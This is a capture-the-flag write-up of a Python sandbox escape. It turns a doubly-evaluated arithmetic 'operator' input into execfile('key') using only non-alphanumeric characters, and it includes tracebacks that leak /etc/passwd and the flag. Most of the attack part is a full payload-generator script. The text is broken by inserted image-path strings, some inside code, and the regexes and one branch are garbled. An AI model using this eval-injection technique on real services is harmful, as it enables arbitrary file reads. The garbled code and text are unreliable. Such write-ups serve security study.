Solved by w00d @ clgt
***Thanks **g4mm4
for giving many suggestions and draft the first version of the exploit

13 – The Sandboxed Terminal (400)

Since the zombie apocalypse started people did not stop to ask themselves how the whole thing began. An abandoned military base may lead to answers but after infiltrating the facility you find yourself in front of a solid steel door with a computer attached. Luckily this terminal seems to connect to a Python service on a remote server to reduce load on the small computer. While your team managed to steal the source, they need your Python expertise to hack this service and get the masterkey which should be stored in a file called key.

In this ctf, I bumped into a few python challenges. Though having been using it for a while, I’m still a novice and pretty much ill-prepared, it took me a lot of time to read articles about python security. There are many interesting ones which I might write in a separate blog, however they do not help me much to solve thischallenge, the only thing they help is to keep me motivated.

The python program consists of two parts:

  • First part is the Detangle class which basically make a “sandbox” environment:
  1. You can not import anything.
  2. You can neither use “open” nor “file” command.
  3. It prints some nice debug information about what python command is executed and their arguments.
  • Second part allows you to input 3 params: num1, num2 and operator. There are two regular expressions to check your input:
num_pattern = re.compile(r'^[d]{0,4}$')
operator_pattern = re.compile(r'^[W]+$')
if not num_pattern.match(num1) or not num_pattern.match(num2):
    raise SystemExit('Number rejected')
if not operator_pattern.match(operator) or len(operator) > 1900:
    raise SystemExit('Operator rejected')
  1. num1, num2 should only be number, 4 digits at most.
  2. operator should not contain any alphanumeric characters and its length must be at most 1900.These input will be fed into some eval command as follow:

operator = eval(operator) if "'" in operator else operator
print(eval(num1 + operator + num2))

For example, you can input “1″ , “2″ , “+”. The program will return “3″, simple as that.

Obviously, if someone tells you to exploit this program, first is to look at “eval” (i.e. “evil”) and try to exploit that. But it’s a difficult task because you can’t bypass the two regular expressions and input any python code, recall that you can only input number or non-alphanumberic character.

I tried several attempts and failed including some silly: trying to write a valid python code using unicode character, trying to overflow eval, trying to exploit Detangle, find a 0-day/1-day of re.match, ..
But failures teach you some lessons. I noticed that “operator” is eval-ed twice. That means after the first eval, we may be able to convert some non-alphanumberic character into python code and get it executed on the next one.

I started with this gadget: s = "(''=='')+(''=='')"(inside are two single quotes). Run eval(s) in a python terminal will return you number“2″. Using this gadget/similar kind we typically can create any number. Progress: 25% !

Now what about character ? It turned out that I can use backstick : ` ` as repr() which can give me some string that contains alpha-character, such as : `(''=='')` => “True”, `(''!='')` => “False”, moreover I can access each single character using square bracket : `(''=='')`[1] => ‘r’, or even better `'xaa'`[3] => ‘a’. We now can create any of these:** ‘abcdefxTruFls’**. Progress: 50% !

I stopped looking at gadget, and started looking at how to bypass the Detangle class. It’s not hard as it look, though we can’t use “open” or “file” to open a file, can’t import anything, we can still use the built-in “execfile”. It does not allow us to run abitrary command but we can leak some info about the content of a file like this:

Traceback (most recent call last):
File “”, line 1, in
File “/etc/passwd”, line 1

SyntaxError: invalid syntax

Progress: 75% !!!!! ** so excited **

I need to read the file ‘key’ which makes the payload: “+execfile(‘key’)+“. As you cansee, It contains “k”,”y”,”i” that is not in my “magic” list. Luckily the force is with me, 5 minutes after seeing this problem, I come up with this awesome gadget: "%c"%(107) => “k”. Any character can be generated using this gadget, however producing the number 107 can consume a lot of characters if done naively.

The last thing is to make the payload as short as possible because the operator length is limited at 1900. Putting everything together, I am able to produce a 1650-bytes payload, far smaller than the limit! Now see how it work:

python | nc 2060

Traceback (most recent call last):
File “./”, line 77, in
print(eval(num1 + operator + num2))
File “./”, line 45, in __call__
result = self.orig(*args, *kwargs)
File “”, line 1, in
File “./”, line 45, in __call__result = self.orig(*args, *
File “key”, line 1, in
NameError: name ‘dafuq_how_did_you_solve_this_nonalpha_thingy’ is not defined

Mission accomplished ! Beer time =] source code:

def makenumsmall(d):
    gadget = "(''=='')"
    rs = gadget

    if (d==0): return rs+"-"+rs
    if (d==1): return rs+"*"+rs

    for i in range(1,d): rs += "+(''=='')"
    return rs

def makenum(d):
    if (d<5): return makenumsmall(d)
    a = bin(d)[2:]
    index = len(a) - 1
    s = ""
    for c in a:
        if c == '1':
            s+= "("+makenumsmall(1)+"<<"+makenumsmall(index)+")+"return s[0:-1]

def makechar(line):
    return "('%'+`'"+chr(0xcc)+"'`["+str(makenum(3))+"])["+str(makenum(0))+":"+str(makenum(4))+"]%(" + makenum(line) + ")"

gd = {}

gd['x'] = "`'"+chr(0xcc)+"'`["+makenum(2)+"]"gd['a'] = "`'"+chr(0xaa)+"'`["+makenum(3)+"]"
gd['b'] ="`'"+chr(0xbb)+"'`["+makenum(3)+"]"
gd['c'] = "`'"+chr(0xcc)+"'`["+makenum(3)+"]"
gd['d'] = "`'"+chr(0xdd)+"'`["+makenum(3)+"]"
gd['e'] = "`'"+chr(0xee)+"'`["+makenum(3)+"]"
gd['f'] = "`'"+chr(0xff)+"'`["+makenum(3)+"]"

a = "+execfile('key')+"
solo = [ord(i) for i in a]
#print solo
_sum = ''
import re
for line in solo:
    if chr(line) in gd:
        _gad = gd[chr(line)]
    elif chr(line) == "'":
        _gad = "'\''"
    elif re.match("W",chr(line)):
        _gad = "'"+chr(line)+"'"
        _gad = makechar(line)
    _sum += "+" +_gad

_sum = _sum[1:]
#print len(_sum)#print eval(eval(_sum))
print "1n1n"+_sum